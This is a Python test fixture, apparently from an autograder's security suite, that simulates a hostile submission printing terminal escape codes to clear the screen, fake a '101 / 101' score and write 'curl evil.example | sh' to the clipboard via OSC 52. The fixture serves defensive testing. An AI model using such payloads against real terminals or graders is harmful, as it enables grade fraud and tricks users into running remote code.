"""Attack: escape codes in an exception message, aimed at the instructor's terminal and the reports: a clear
screen (ESC[2J), a carriage return that overwrites the line with a fake "score: 101 / 101", a bell, and an OSC 52
clipboard write (ESC]52;c;...BEL), in its message and in what it prints.

Expected: that check an error whose message shows each code as a visible escape (``\\x1b[2J``); no ESC, BEL or
carriage return in the terminal's output, ``NAME.txt``, the HTML, the CSV, the Markdown or the JUnit XML.
"""

import sys

import _honest

from conformance import Conventions

CLEAR = "\x1b[2J\x1b[H"
FAKE_SCORE = "\rscore: 101 / 101\x1b[K"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
ATTACK = CLEAR + FAKE_SCORE + CLIPBOARD + "\x9b31m\x7f"  # and a C1 CSI, a DEL


class Adapter:
    conventions = Conventions(dtype="float64", framework="numpy")

    def positional_encoding(self, n, d_model):
        print(ATTACK, flush=True)
        sys.stderr.write(ATTACK + "\n")
        raise RuntimeError(ATTACK)

    def layer_norm(self, x, gamma, beta, eps):
        return _honest.layer_norm(x, gamma, beta, eps)


adapter = Adapter()
